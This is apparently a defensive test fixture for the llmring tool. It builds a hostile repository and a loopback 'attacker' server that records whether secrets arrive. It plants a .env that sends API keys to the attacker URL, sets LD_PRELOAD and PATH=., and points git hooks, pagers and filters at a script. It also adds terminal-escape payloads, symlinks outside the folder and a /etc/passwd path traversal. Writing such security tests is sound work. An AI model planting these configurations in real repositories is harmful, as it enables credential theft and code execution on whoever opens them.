"""A repository of an attacker, the host behind it, and text that would steer a terminal."""

import json
import os
import subprocess
import threading
from base64 import b64encode
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Self
from urllib.parse import quote

STEERING = "x\x1b]0;title\x07\x1b[2J\x9b31m\x7f\u202ey\u2066\u200f[red]m[/red]\rz"
"""OSC, CSI in both forms, DEL, bidirectional controls, a carriage return; and markup of rich, which is plain text."""
_WITHIN_TOML = json.dumps(STEERING)

DOTENV_NAMES = [
    "GIT_EXTERNAL_DIFF",
    "GIT_PAGER",
    "GIT_SSH_COMMAND",
    "PAGER",
    "EDITOR",
    "VISUAL",
    "BROWSER",
    "SHELL",
]


class Attacker:
    """A host on the loopback interface that keeps every byte it is sent, and answers like all hosts at once.

    Attributes:
        received: request lines, headers and bodies.
        failing: every answer is an error.
    """

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.failing = False
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"

            def answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                attacker.received.append(f"{self.requestline}\n{self.headers}\n".encode() + body)
                status, kind, data = attacker.respond(self.path, body)
                self.send_response_only(status)
                self.send_header("Content-Type", kind)
                self.send_header("X-Request-Id", quote(STEERING))
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            do_GET = do_POST = do_CONNECT = answer  # noqa: N815 - http.server's names

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"

    def __enter__(self) -> Self:
        threading.Thread(target=self._server.serve_forever, args=(0.01,), daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()

    def has_received(self, secret: str) -> bool:
        """Return true if a secret arrived, in any form."""
        forms = (secret, b64encode(secret.encode()).decode(), quote(secret), secret[::-1])
        return any(form.encode() in one for form in forms for one in self.received)

    def respond(self, path: str, body: bytes) -> tuple[int, str, bytes]:
        """Return status, content type and body."""
        if self.failing:
            error = {"error": {"message": STEERING, "type": STEERING, "code": STEERING}, "detail": STEERING}
            return 400, "application/json", json.dumps(error).encode()
        if b'"stream":true' in body.replace(b" ", b""):
            chunk = {
                "id": "1",
                "choices": [{"index": 0, "delta": {"content": STEERING}, "finish_reason": None}],
            }
            end = {"id": "1", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
            lines = [f"data: {json.dumps(one)}\n\n" for one in (chunk, end)]
            return 200, "text/event-stream", "".join([*lines, "data: [DONE]\n\n"]).encode()
        return 200, "application/json", json.dumps(_answer(path)).encode()


def _answer(path: str) -> Any:
    if path.endswith("/models.json"):
        provider = path.split("/")[-2]
        facts = {
            "model_name": f"m{STEERING}",
            "display_name": STEERING,
            "provider": provider,
            "description": STEERING,
            "max_input_tokens": 1_000_000,
            "dollars_per_million_tokens_input": 1,
            "dollars_per_million_tokens_output": 1,
            "supports_function_calling": True,
            "model_aliases": [STEERING],
            "is_active": True,
        }
        models = {f"{provider}:m{STEERING}": facts, f"{provider}:gpt-4o": {**facts, "model_name": "gpt-4o"}}
        return {"provider": provider, "version": 9, "updated_at": STEERING, "models": models}
    sums = {"requests": 1, "cost": 1, "input_tokens": 1, "output_tokens": 1}
    message = {"role": STEERING, "content": STEERING}
    return {
        "status": "healthy",
        "database": STEERING,
        "id": STEERING,
        "title": STEERING,
        "message_count": 1,
        "messages": [message],
        "summary": {"total_requests": 1, "total_cost": 1, "total_tokens": 1},
        "by_day": [{"date": STEERING, "requests": 1, "cost": 1, "top_model": STEERING}],
        "by_model": {STEERING: sums},
        "by_origin": {STEERING: sums},
        "by_alias": {STEERING: sums},
        "object": "list",
        "data": [{"id": STEERING, "object": "model"}],
        "model": STEERING,
        "choices": [
            {"index": 0, "message": {"role": "assistant", "content": STEERING}, "finish_reason": "stop"}
        ],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
    }


def build_repository(folder: Path, outside: Path, markers: Path, url: str) -> None:
    """Write everything that a cloned repository, or an unpacked archive, can bring.

    Args:
        folder: the repository.
        outside: a folder with files that must not change.
        markers: where commands that are run leave a file.
        url: the attacker's host.
    """
    run_me = folder / "run-me"
    run_me.write_text(f"#!/bin/sh\ntouch {markers}/command\n")
    run_me.chmod(0o755)
    _write_dotenv(folder, outside, run_me, url)
    _write_lockfiles(folder)
    _write_python(folder, markers)
    _write_git(folder, run_me)
    for name in (
        "out.csv",
        "out.sarif",
        "out.sh",
        "aliases.py",
        "link.lock",
        "link.env",
        "notes.txt",
        "usage.db",
    ):
        (folder / name).symlink_to(outside / "victim")
    (folder / "there").symlink_to(outside)
    os.mkfifo(folder / "pipe.py")


def _write_dotenv(folder: Path, outside: Path, run_me: Path, url: str) -> None:
    lines = [f"{name}={run_me}" for name in DOTENV_NAMES]
    lines += [f"{name}_PROXY={url}" for name in ("HTTP", "HTTPS", "ALL", "http", "https", "all")]
    lines += [f"OPENAI_BASE_URL={url}", f"ANTHROPIC_BASE_URL={url}/${{ANTHROPIC_API_KEY}}"]
    lines += [f"GOOGLE_GEMINI_BASE_URL={url}", f"OLLAMA_HOST={url}", f"OLLAMA_BASE_URL={url}"]
    lines += [f"LLMRING_SERVER_URL={url}", f"LLMRING_REGISTRY_URL={url}", "LLMRING_PREFER_SAAS=1"]
    lines += [f"LLMRING_USAGE_LOG={outside}/usage.db", f"LLMRING_LOCKFILE_PATH={outside}/victim"]
    lines += [f"XDG_{kind}_HOME={outside}" for kind in ("CACHE", "CONFIG", "DATA", "STATE")]
    lines += [f"HOME={outside}", f"TMPDIR={outside}", f"SSL_CERT_FILE={folder}/ca.pem", "PATH=."]
    lines += [f"LD_PRELOAD={folder}/evil.so", f"OPENSSL_CONF={folder}/openssl.cnf", f"PYTHONPATH={folder}"]
    lines += ["GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=core.fsmonitor", f"GIT_CONFIG_VALUE_0={run_me}"]
    lines += ["EVIL_API_KEY=${OPENAI_API_KEY}", f"EVIL_BASE_URL={url}", "LLMRING_DOTENV=@nowhere"]
    (folder / ".env").write_text("\n".join(lines) + "\n")
    (folder / ".env.llmring").write_text(f"LLMRING_SERVER_URL={url}\n")


def _write_lockfiles(folder: Path) -> None:
    text = f"""\
version = "1.0"
default_profile = "default"
[extends]
packages = ["evil_package", "evil-distribution"]
[[profiles.default.bindings]]
alias = "fast"
models = ["openai:gpt-4o", "anthropic:claude-haiku-4-5", "google:gemini-2.5-flash", "ollama:x", "evil:x"]
[[profiles.default.bindings]]
alias = "advisor"
models = ["openai:gpt-4o"]
[[profiles.default.bindings]]
alias = {_WITHIN_TOML}
models = [{json.dumps("openai:" + STEERING)}]
[[profiles.{_WITHIN_TOML}.bindings]]
alias = {_WITHIN_TOML}
models = ["openai:gpt-4o"]
"""
    (folder / "llmring.lock").write_text(text)
    (folder / "old.lock").write_text(text.replace("gpt-4o", "gpt-4"))
    before_1_0 = f'[[bindings]]\nalias = {_WITHIN_TOML}\nprovider = "evil"\nmodel = {_WITHIN_TOML}\n'
    (folder / "1.3.lock").write_text(before_1_0)
    (folder / "broken.lock").write_text(f"version = {_WITHIN_TOML}\n")


def _write_python(folder: Path, markers: Path) -> None:
    code = f"open({str(markers / 'import')!r}, 'w').close()\n"
    for name in (
        "evil_provider",
        "evil_package",
        "sitecustomize",
        "dotenv",
        "rich",
        "llmring",
        "httpx2",
        "sqlite3",
    ):
        (folder / name).mkdir()
        (folder / name / "__init__.py").write_text(code)
        (folder / name / "llmring.lock").write_text((folder / "llmring.lock").read_text())
    metadata = folder / "evil_distribution-1.dist-info"
    metadata.mkdir()
    (metadata / "METADATA").write_text("Metadata-Version: 2.1\nName: evil-distribution\nVersion: 1\n")
    (metadata / "entry_points.txt").write_text("[llmring.providers]\nevil = evil_provider:create\n")
    (metadata / "RECORD").write_text("llmring.lock,,\n../../../../../../etc/passwd,,\n")
    source = f"LLMRequest([], model={STEERING!r})\nLLMRequest([], model='fast')\n"
    (folder / "app.py").write_text(source)
    (folder / f"file{STEERING.replace('/', '')}.py").write_text(source + "(")
    (folder / "deep.py").write_text("(" * 5000)
    (folder / "pyproject.toml").write_text('[project]\nname = "there"\nversion = "1"\n')


def _write_git(folder: Path, run_me: Path) -> None:
    def git(*arguments: str) -> None:
        who = ["-c", "user.name=a", "-c", "user.email=a"]
        subprocess.run(["git", *who, *arguments], cwd=folder, check=True, capture_output=True)  # noqa: S607

    (folder / ".gitattributes").write_text("* diff=evil filter=evil\n")
    git("init", "-q")
    git("add", "llmring.lock")
    git("commit", "-qm", STEERING.replace("\r", ""))
    for name in ("fsmonitor", "pager", "sshCommand", "editor", "hooksPath", "gitProxy", "askPass"):
        git("config", f"core.{name}", str(run_me))
    for name in (
        "diff.external",
        "diff.evil.textconv",
        "diff.evil.command",
        "filter.evil.smudge",
        "gpg.program",
    ):
        git("config", name, str(run_me))
    git("config", "alias.cat-file", f"!{run_me}")
    git("config", "log.showSignature", "true")
